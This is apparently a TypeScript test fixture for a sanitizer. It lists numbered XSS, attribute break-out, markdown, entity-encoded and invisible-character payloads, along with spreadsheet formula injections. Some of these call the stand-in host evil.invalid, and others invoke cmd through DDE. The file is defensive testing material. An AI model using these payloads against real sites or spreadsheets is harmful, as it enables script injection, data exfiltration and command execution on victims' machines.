// What people try to smuggle into a page. `XSS` stands for a call that tells the test that a script ran, and every address of
// evil.invalid for a request that must not be made.

const TAGS = String.raw`
<script>XSS</script>
<ScRiPt>XSS</sCrIpT >
<scr<script>ipt>XSS</scr</script>ipt>
<script src=//evil.invalid/x.js></script>
<script type=module>import("//evil.invalid/m.js");XSS</script>
<img src=x onerror=XSS>
<img src="http://evil.invalid/p.png" onload=XSS>
<img/src='x'/onerror='XSS'>
<IMG """><SCRIPT>XSS</SCRIPT>">
<img srcset="http://evil.invalid/1.png 1x, http://evil.invalid/2.png 2x">
<picture><source srcset=http://evil.invalid/s.png><img></picture>
<svg onload=XSS>
<svg><script>XSS</script></svg>
<svg><script href=//evil.invalid/s.js></script></svg>
<svg><a xlink:href="javascript:XSS"><text y=20>x</text></a></svg>
<svg><animate onbegin=XSS attributeName=x dur=1s>
<svg><use href="http://evil.invalid/u.svg#x"/></svg>
<svg><image href=http://evil.invalid/i.png /></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.XSS</script>"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=XSS>">
<math href="javascript:XSS">x</math>
<iframe src="javascript:parent.XSS"></iframe>
<iframe srcdoc="<script>parent.XSS</script>"></iframe>
<iframe src=http://evil.invalid/></iframe>
<object data="javascript:XSS"></object>
<object data=http://evil.invalid/o.swf></object>
<embed src=http://evil.invalid/e.svg>
<video src=x onerror=XSS>
<video poster=http://evil.invalid/v.png><source onerror=XSS></video>
<audio autoplay src=http://evil.invalid/a.mp3 onerror=XSS>
<body onload=XSS>
<details open ontoggle=XSS><summary>x</summary></details>
<input autofocus onfocus=XSS>
<select autofocus onfocus=XSS></select>
<marquee onstart=XSS>x</marquee>
<style>@keyframes x{}</style><div style="animation-name:x" onanimationstart=XSS>x</div>
<div style="background:url(http://evil.invalid/c.png)">x</div>
<style>@import url(http://evil.invalid/s.css);</style>
<style>*{background:url("http://evil.invalid/b.png")}</style>
<link rel=stylesheet href=http://evil.invalid/l.css>
<link rel=prefetch href=http://evil.invalid/prefetch>
<meta http-equiv=refresh content="0;url=javascript:XSS">
<meta http-equiv=refresh content="0;url=http://evil.invalid/">
<base href=http://evil.invalid/>
<form action=javascript:XSS><button autofocus>x</button></form>
<button formaction=javascript:XSS>x</button>
<a href=javascript:XSS autofocus onfocus=XSS>x</a>
<template><script>XSS</script></template>
<noscript><p title="</noscript><img src=x onerror=XSS>">
<textarea><img title="</textarea><img src=x onerror=XSS>">
<!--><img src=x onerror=XSS>-->
<![CDATA[><img src=x onerror=XSS>]]>
<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">XSS</x:script>`;

const BREAK_OUTS = String.raw`
"><img src=x onerror=XSS>
'><img src=x onerror=XSS>
" autofocus onfocus=XSS onmouseover=XSS x="
' autofocus onfocus=XSS onmouseover=XSS x='
</title><script>XSS</script>
</script><script>XSS</script>
</style><script>XSS</script>
</textarea></article><img src=x onerror=XSS>
]]><script>XSS</script>
${"$"}{XSS}
{{constructor.constructor('XSS')()}}
';XSS;//
\u0027;XSS;//
\";XSS;//
&apos;);XSS//
</w:t></w:r></w:p><w:p><w:r><w:t>
javascript:XSS
%3Cscript%3EXSS%3C/script%3E
__proto__
\r\nContent-Type: text/html\r\n\r\n<script>XSS</script>`;

const MARKDOWN = String.raw`
[x](javascript:XSS)
[x](JaVaScRiPt:XSS)
[x](java&#x0A;script:XSS)
[x](&#106;avascript:XSS)
[x](\javascript:XSS)
[x]( javascript:XSS "t")
[x](<javascript:XSS>)
[x](data:text/html,<script>XSS</script>)
[x](data:text/html;base64,PHNjcmlwdD5vcGVuZXIueHNzKDApPC9zY3JpcHQ+)
[x](vbscript:XSS)
[x](//evil.invalid/)
[x](http://evil.invalid/" onmouseover="XSS)
[x](http://evil.invalid/ 'x" onmouseover="XSS')
[x](https://evil.invalid/?q=<script>XSS</script>)
![x](http://evil.invalid/m.png)
![x](x"onerror="XSS)
![x](javascript:XSS)
[![x](http://evil.invalid/n.png)](javascript:XSS)
<javascript:XSS>
<http://evil.invalid/"onmouseover="XSS>
http://evil.invalid/"onmouseover="XSS
\<img src=x onerror=XSS>
\\<img src=x onerror=XSS>
\![x](http://evil.invalid/escaped.png)
\\[x](javascript:XSS)
${"`"}<img src=x onerror=XSS>${"`"}
> <svg onload=XSS>
- [ ] <img src=x onerror=XSS>
# <img src=x onerror=XSS>
**<img src=x onerror=XSS>**
~~<script>XSS</script>~~
$\href{javascript:XSS}{x}$`;

const ENTITIES = String.raw`
&lt;img src=x onerror=XSS&gt;
&#60;img src=x onerror=XSS&#62;
&#x3C;img src=x onerror=XSS&#x3E;
&amp;lt;img src=x onerror=XSS&amp;gt;
＜img src=x onerror=XSS＞
﹤script﹥XSS﹤/script﹥`;

/** Formulas, for whoever opens a table in a spreadsheet. */
export const FORMULAS = [
  `=HYPERLINK("http://evil.invalid/?"&A1,"x")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  "＝1+1",
  "%0A=1+1",
];

/** Of several lines, or with characters that no eye sees. */
const UNSEEN = [
  "\u2028<script>XSS</script>\u2029",
  "<img src=x onerror\u2028=XSS>",
  "<img\u00a0src=x onerror=XSS>",
  "<\u200bscript>XSS</\u200bscript>",
  "\u202e>XSS=rorreno x=crs gmi<\u202c",
  "\ufeff<script>XSS</script>",
  "<img src=x\tonerror\n=\nXSS>",
  "[x](java\tscript:XSS)",
  "[x][r]\n\n[r]: javascript:XSS",
  "![x][s]\n\n[s]: http://evil.invalid/ref.png",
  '```"><img src=x onerror=XSS>\n<script>XSS</script>\n```',
  "| a |\n|---|\n| <img src=x onerror=XSS> [x](javascript:XSS) |",
  "<div\n\n<img src=x onerror=XSS>\n\n>",
];

const lines = (text: string): string[] => text.split("\n").filter((line) => line !== "");

/** Each calls by its own number, so that a hit names its payload. */
export const PAYLOADS: readonly string[] = [
  ...[TAGS, BREAK_OUTS, MARKDOWN, ENTITIES].flatMap(lines),
  ...FORMULAS,
  ...UNSEEN,
].map((payload, number) => payload.replaceAll("XSS", `xss(${String(number)})`));

/** Those that a name can be. */
export const NAMES = PAYLOADS.filter((text) => text.length <= 80);

/** In pieces of at most so many characters, each payload whole. */
export function batches(max: number, between: string): string[] {
  const found: string[] = [];
  for (const payload of PAYLOADS) {
    const last = found.at(-1);
    const longer = last === undefined ? "" : last + between + payload;
    if (last === undefined || longer.length > max) found.push(payload);
    else found[found.length - 1] = longer;
  }
  return found;
}
